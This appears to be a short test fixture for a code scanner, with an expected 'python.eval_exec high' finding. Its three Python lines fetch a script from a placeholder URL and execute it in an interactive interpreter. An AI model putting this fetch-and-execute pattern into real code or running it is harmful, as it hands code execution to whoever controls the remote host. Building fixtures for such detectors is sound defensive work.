# expect: python.eval_exec high
# path: tools/remote_repl.py
import code
import requests
code.InteractiveInterpreter().runsource(requests.get('https://x/i.py').text)
